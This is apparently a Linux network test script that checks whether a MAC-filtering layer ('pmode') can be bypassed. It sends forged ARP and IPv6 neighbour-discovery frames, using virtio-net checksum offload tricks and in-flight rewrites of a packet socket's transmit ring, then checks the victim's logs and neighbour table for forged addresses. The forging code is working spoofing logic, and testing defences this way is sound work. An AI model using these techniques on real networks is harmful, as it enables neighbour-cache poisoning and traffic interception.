#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Frames whose bytes change after pmode has judged them (stdlib only).

Two ways a sender gets bytes past the hooks that the hooks never saw:

* The checksum offload. A VM's virtio-net header (IFF_VNET_HDR on its
  tap) may ask for a checksum (NEEDS_CSUM, csum_start, csum_offset). Where
  the frame leaves through a device that cannot take the offload (a tap
  without TUN_F_CSUM: an emulated NIC's, or a VM's whose driver did not ask
  for it), the stack writes the ones' complement sum of the bytes from
  csum_start at csum_start + csum_offset: two bytes, anywhere from the MAC
  header on (6.1; from byte 20 on 6.12), of a value the sender chose.
* The transmit ring. A packet socket's PACKET_TX_RING sends the frame's
  bytes after the link-layer header from the ring's pages, which the
  sender may write while the frame is on its way; veth hands them on as
  they are.

  late.py relay --from TAP --into NETNS:TAP --log FILE [--ready FILE]
      a victim VM: frames the host delivers to TAP are logged (hex, one a
      line) and handed to the stack of NETNS through its tap
  late.py csum --tap TAP --mac A --victim V --ids N --seed S
      send from TAP, with virtio-net headers, the generated frames (below)
      and genuine ones among them; print what was sent, as JSON
  late.py ring --dev DEV --mac A --victim-ip4 IP --victim-ip6 IP --count N
      [--wait S]  send ARP requests and NS from DEV through a transmit ring,
      each with the sender's own MAC in it, then, S seconds later, write a
      forged one over it in the ring
  late.py frames --log FILE --genuine MAC,... [--sent JSON]
      the relay's log judged: frames that carry an address not in the
      genuine list where a receiver learns one (Ethernet source, ARP
      sender, ND link-layer options), and the genuine frames that arrived
  late.py neigh --genuine MAC,...   (ip -j neigh show on stdin)
      entries whose address is not genuine

The checksum frames are generated, not listed: each template (an ARP
request, an NS, an unsolicited NA, with the attacker's own MAC; an IPv4
frame carrying an ARP request for a forged MAC; an IPv6 packet with no
next header carrying an NS for one) is sent for every offset whose two
bytes, changed, bring it closer to its forged twin (the same frame
with the forged MAC wherever the attacker's stands, and the EtherType or
next header that makes a carrier what it carries), with csum_start at the
offset and at a random one up to 8 bytes before, and padding that makes
the stack write
exactly the forged twin's two bytes there. Every forged MAC is from
02:5e:00, which nothing else uses.
"""
import argparse
import ctypes
import fcntl
import json
import mmap
import os
import random
import select
import signal
import socket
import struct
import sys
import time

TUNSETIFF = 0x400454ca
IFF_TAP, IFF_NO_PI, IFF_VNET_HDR = 0x0002, 0x1000, 0x4000
NEEDS_CSUM = 1
CLONE_NEWNET = 0x40000000
SOL_PACKET, PACKET_VERSION, PACKET_TX_RING, TPACKET_V2 = 263, 10, 13, 1
TP_STATUS_SEND_REQUEST = 1
FORGED = b'\x02\x5e\x00'
ETH_P_IPV6, ETH_P_ARP, ETH_P_IP, EXPERIMENTAL = 0x86dd, 0x0806, 0x0800, 0x88b5


def mac(s):
    return bytes.fromhex(s.replace(':', ''))


def fmt(b):
    return ':'.join('%02x' % x for x in b)


def forged(n):
    return FORGED + struct.pack('!I', n)[1:]


def fold(s):
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return s


def csum(data):
    if len(data) % 2:
        data += b'\0'
    return fold(sum(struct.unpack('!%dH' % (len(data) // 2), data)))


def ip6(s):
    return socket.inet_pton(socket.AF_INET6, s)


def ip4(s):
    return socket.inet_aton(s)


def arp(sha, spa, tpa, op=1):
    return struct.pack('!HHBBH', 1, ETH_P_IP, 6, 4, op) + sha + spa + \
        b'\0' * 6 + tpa


def icmp6(src, dst, body):
    """An ICMPv6 message with its checksum, and the IPv6 header before it;
    the header's next header is 58 (ND must have it)."""
    pseudo = src + dst + struct.pack('!I3xB', len(body), 58)
    body = body[:2] + struct.pack('!H', ~csum(pseudo + body) & 0xffff) + body[4:]
    return struct.pack('!IHBB', 0x60000000, len(body), 58, 255) + src + dst + body


def ns(src, target, sll):
    return struct.pack('!BBHI', 135, 0, 0, 0) + target + b'\x01\x01' + sll


def na(target, tll):
    return struct.pack('!BBHI', 136, 0, 0, 0x20000000) + target + b'\x02\x01' + tll


def eth(dst, src, proto):
    return dst + src + struct.pack('!H', proto)


def open_tap(name, flags=0):
    fd = os.open('/dev/net/tun', os.O_RDWR)
    fcntl.ioctl(fd, TUNSETIFF, struct.pack('16sH', name.encode(),
                                           IFF_TAP | IFF_NO_PI | flags))
    return fd


def setns(name):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open('/run/netns/' + name, os.O_RDONLY)
    if libc.setns(fd, CLONE_NEWNET):
        raise OSError(ctypes.get_errno(), 'setns ' + name)
    os.close(fd)


def relay(a):
    src = open_tap(a.from_)
    ns_name, dev = a.into.split(':')
    setns(ns_name)
    dst = open_tap(dev)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    with open(a.log, 'w') as log:
        if a.ready:
            open(a.ready, 'w').close()
        while not stop:
            try:
                r, _, _ = select.select([src, dst], [], [], 0.2)
            except InterruptedError:
                continue
            if dst in r:
                os.read(dst, 65536)  # the victim's replies: not needed
            if src in r:
                f = os.read(src, 65536)
                log.write(f.hex() + '\n')
                log.flush()
                try:
                    os.write(dst, f)
                except OSError as e:
                    print('relay: %s' % e, file=sys.stderr)


def templates(att, vic, n):
    """The frames of id n: (name, sent, twin), where twin is the frame with
    every address of the attacker's made forged, or the carrier made what it
    carries."""
    f = forged(n)
    hi, lo = 1 + n // 250, 1 + n % 250
    spa = bytes([10, 79, hi, lo])
    tpa = ip4('10.79.0.2')
    src6 = ip6('fd79::1:%x' % n)
    dst6 = ip6('fd79::2')
    out = []
    body = arp(att, spa, tpa)
    out.append(('arp', eth(b'\xff' * 6, att, ETH_P_ARP) + body,
                eth(b'\xff' * 6, f, ETH_P_ARP) + arp(f, spa, tpa)))
    out.append(('ns', eth(vic, att, ETH_P_IPV6) + icmp6(src6, dst6, ns(src6, dst6, att)),
                eth(vic, f, ETH_P_IPV6) + icmp6(src6, dst6, ns(src6, dst6, f))))
    # An unsolicited NA for an address the victim has an entry for (the
    # shell seeds one): override set, it updates the entry.
    seeded = ip6('fd79::99')
    out.append(('na', eth(vic, att, ETH_P_IPV6) + icmp6(seeded, dst6, na(seeded, att)),
                eth(vic, f, ETH_P_IPV6) + icmp6(seeded, dst6, na(seeded, f))))
    # Carriers: pmode sees IPv4, or IPv6 with no next header.
    out.append(('arp-in-ipv4', eth(b'\xff' * 6, att, ETH_P_IP) + arp(f, spa, tpa),
                eth(b'\xff' * 6, att, ETH_P_ARP) + arp(f, spa, tpa)))
    nsf = icmp6(src6, dst6, ns(src6, dst6, f))
    out.append(('ns-in-nonext', eth(vic, att, ETH_P_IPV6) + nsf[:6] + b'\x3b' + nsf[7:],
                eth(vic, att, ETH_P_IPV6) + nsf))
    return out


def offloaded(frame, at, value, start):
    """frame, padded so that the stack's checksum over [start, end) written
    at at is value; and its virtio-net header. None if it cannot be."""
    if value == b'\0\0':
        return None  # a sum of zero is written as 0xffff
    if (len(frame) - start) % 2:
        frame += b'\0'
    frame += b'\0\0'
    want = ~struct.unpack('!H', value)[0] & 0xffff
    # At an odd distance from start the field's bytes fall across words.
    have = csum(frame[start:])
    pad = (want - have) % 0xffff
    frame = frame[:-2] + struct.pack('!H', pad)
    got = ~csum(frame[start:]) & 0xffff
    if struct.pack('!H', got) != value:
        return None
    # hdr_len: the bytes to put in the linear data; tun takes no frame
    # whose header length says less than an Ethernet header.
    hdr = struct.pack('<BBHHHH', NEEDS_CSUM, 0, min(len(frame), 64), 0, start,
                      at - start)
    return hdr + frame


def genuine(att, vic, n, offload):
    """A frame to the victim it must receive: a plain one, or a UDP datagram
    whose checksum the stack fills in at UDP's field."""
    marker = b'PMODE-G%d\0' % n
    if not offload:
        return struct.pack('<BBHHHH', 0, 0, 0, 0, 0, 0) + \
            eth(vic, att, EXPERIMENTAL) + marker + b'\0' * 40
    udp = struct.pack('!HHHH', 9, 9, 8 + len(marker), 0) + marker
    iph = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), n & 0xffff, 0, 64,
                      17, 0, ip4('10.79.0.1'), ip4('10.79.0.2'))
    iph = iph[:10] + struct.pack('!H', ~csum(iph) & 0xffff) + iph[12:]
    # The pseudo-header's sum in the field, as a stack that offloads does.
    pseudo = csum(iph[12:20] + struct.pack('!BBH', 0, 17, len(udp)))
    udp = udp[:6] + struct.pack('!H', pseudo) + udp[8:]
    return struct.pack('<BBHHHH', NEEDS_CSUM, 0, 0, 0, 34, 6) + \
        eth(vic, att, ETH_P_IP) + iph + udp


def send_csum(a):
    att, vic = mac(a.mac), mac(a.victim)
    rnd = random.Random(a.seed)
    fd = open_tap(a.tap, IFF_VNET_HDR)
    time.sleep(a.settle)
    stats = {}
    genuine_sent = 0
    units = []
    for n in range(a.ids):
        for name, sent, twin in templates(att, vic, n):
            for at in range(len(sent) - 1):
                if sent[at:at + 2] == twin[at:at + 2]:
                    continue
                # The sum from the field itself (6.12 takes no checksum
                # that starts before byte 20), and from up to 8 bytes before.
                for start in {at, max(0, at - rnd.randrange(1, 9))}:
                    units.append((name, n, sent, twin, at, start))
    rnd.shuffle(units)
    for i, (name, n, sent, twin, at, start) in enumerate(units):
        s = stats.setdefault(name, {'sent': 0, 'refused': 0, 'unbuildable': 0})
        # The final frame: the twin's two bytes at at, the rest as sent;
        # an NS or NA's checksum made for the final frame.
        final = sent[:at] + twin[at:at + 2] + sent[at + 2:]
        if final[12:14] == b'\x86\xdd' and final[20] == 58:
            if 55 <= at <= 57:
                s['unbuildable'] += 1  # into the ICMPv6 checksum itself
                continue
            body = final[54:54 + struct.unpack('!H', final[18:20])[0]]
            pseudo = final[22:54] + struct.pack('!I3xB', len(body), 58)
            body = body[:2] + b'\0\0' + body[4:]
            ck = struct.pack('!H', ~csum(pseudo + body) & 0xffff)
            final = final[:56] + ck + final[58:]
            sent = sent[:56] + ck + sent[58:]
        wire = offloaded(sent, at, final[at:at + 2], start)
        if wire is None:
            s['unbuildable'] += 1
            continue
        try:
            os.write(fd, wire)
            s['sent'] += 1
        except OSError:
            s['refused'] += 1  # the kernel's own check on csum_start
        if i % 4 == 0:
            os.write(fd, genuine(att, vic, genuine_sent, genuine_sent % 2))
            genuine_sent += 1
        if i % 64 == 63:
            time.sleep(0.05)
    time.sleep(1)
    json.dump({'families': stats, 'genuine': genuine_sent}, sys.stdout)
    print()


def ring(a):
    att = mac(a.mac)
    nframes = 16
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    s.setsockopt(SOL_PACKET, PACKET_VERSION, TPACKET_V2)
    s.setsockopt(SOL_PACKET, PACKET_TX_RING,
                 struct.pack('IIII', 4096, nframes // 2, 2048, nframes))
    m = mmap.mmap(s.fileno(), 4096 * nframes // 2,
                  mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    s.bind((a.dev, 0))
    tpa, dst6 = ip4(a.victim_ip4), ip6(a.victim_ip6)
    vic = mac(a.victim_mac)
    report = []
    for n in range(min(a.count, nframes // 2)):
        f = forged(0x10000 + n)
        spa = bytes([10, 80, 1, 10 + n])
        src6 = ip6('fd80::1:%x' % (10 + n))
        frames = [
            ('arp', eth(b'\xff' * 6, att, ETH_P_ARP) + arp(att, spa, tpa),
             eth(b'\xff' * 6, att, ETH_P_ARP) + arp(f, spa, tpa)),
            ('ns', eth(vic, att, ETH_P_IPV6) + icmp6(src6, dst6, ns(src6, dst6, att)),
             eth(vic, att, ETH_P_IPV6) + icmp6(src6, dst6, ns(src6, dst6, f))),
        ]
        for k, (name, sent, later) in enumerate(frames):
            base = (2 * n + k) * 2048
            m[base + 32:base + 32 + len(sent)] = sent
            m[base + 4:base + 8] = struct.pack('I', len(sent))
            m[base:base + 4] = struct.pack('I', TP_STATUS_SEND_REQUEST)
            s.send(b'')
            time.sleep(a.wait)
            # The frame is on its way (a qdisc holds it): forge it now.
            m[base + 32:base + 32 + len(later)] = later
            report.append({'kind': name, 'ip': socket.inet_ntop(
                socket.AF_INET, spa) if name == 'arp' else socket.inet_ntop(
                    socket.AF_INET6, src6), 'own': fmt(att), 'forged': fmt(f)})
    time.sleep(a.wait * 4)
    json.dump(report, sys.stdout)
    print()


def learnable(f):
    """The addresses in frame f a receiver may learn: Ethernet source, ARP
    sender, ND link-layer options (past VLAN tags)."""
    out = [f[6:12]]
    off, proto = 14, f[12:14]
    while proto in (b'\x81\x00', b'\x88\xa8') and len(f) >= off + 4:
        proto, off = f[off + 2:off + 4], off + 4
    if proto == b'\x08\x06' and len(f) >= off + 14:
        out.append(f[off + 8:off + 14])
    elif proto == b'\x86\xdd' and len(f) >= off + 40 + 8 and f[off + 6] == 58:
        t = f[off + 40]
        start = {133: 8, 134: 16, 135: 24, 136: 24, 137: 40}.get(t)
        if start:
            o = off + 40 + start
            end = min(len(f), off + 40 + struct.unpack('!H', f[off + 4:off + 6])[0])
            while o + 8 <= end and f[o + 1]:
                if f[o] in (1, 2) and not (t == 137 and f[o] == 2):
                    out.append(f[o + 2:o + 8])
                o += f[o + 1] * 8
    return out


def frames(a):
    good = {mac(x) for x in a.genuine.split(',')}
    bad, seen, total = [], set(), 0
    with open(a.log) as log:
        for line in log:
            f = bytes.fromhex(line.strip())
            total += 1
            i = f.find(b'PMODE-G')
            if i >= 0:
                seen.add(int(f[i + 7:f.index(b'\0', i)]))
            for x in learnable(f):
                if x not in good:
                    bad.append((fmt(x), f.hex()))
    print(json.dumps({'frames': total, 'genuine_seen': len(seen),
                      'bad': len(bad), 'first_bad': bad[:5]}))


def neigh(a):
    good = {x.lower() for x in a.genuine.split(',')}
    bad = [e for e in json.load(sys.stdin)
           if e.get('lladdr') and e['lladdr'].lower() not in good]
    print(json.dumps({'bad': len(bad), 'entries': bad[:10]}))


def main():
    p = argparse.ArgumentParser(description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest='cmd', required=True)
    r = sub.add_parser('relay')
    r.add_argument('--from', dest='from_', required=True)
    r.add_argument('--into', required=True)
    r.add_argument('--log', required=True)
    r.add_argument('--ready')
    c = sub.add_parser('csum')
    c.add_argument('--tap', required=True)
    c.add_argument('--mac', required=True)
    c.add_argument('--victim', required=True)
    c.add_argument('--ids', type=int, default=4)
    c.add_argument('--seed', type=int, default=1)
    c.add_argument('--settle', type=float, default=1.0)
    g = sub.add_parser('ring')
    g.add_argument('--dev', required=True)
    g.add_argument('--mac', required=True)
    g.add_argument('--victim-mac', required=True)
    g.add_argument('--victim-ip4', required=True)
    g.add_argument('--victim-ip6', required=True)
    g.add_argument('--count', type=int, default=4)
    g.add_argument('--wait', type=float, default=0.1)
    f = sub.add_parser('frames')
    f.add_argument('--log', required=True)
    f.add_argument('--genuine', required=True)
    n = sub.add_parser('neigh')
    n.add_argument('--genuine', required=True)
    a = p.parse_args()
    {'relay': relay, 'csum': send_csum, 'ring': ring, 'frames': frames,
     'neigh': neigh}[a.cmd](a)


if __name__ == '__main__':
    main()
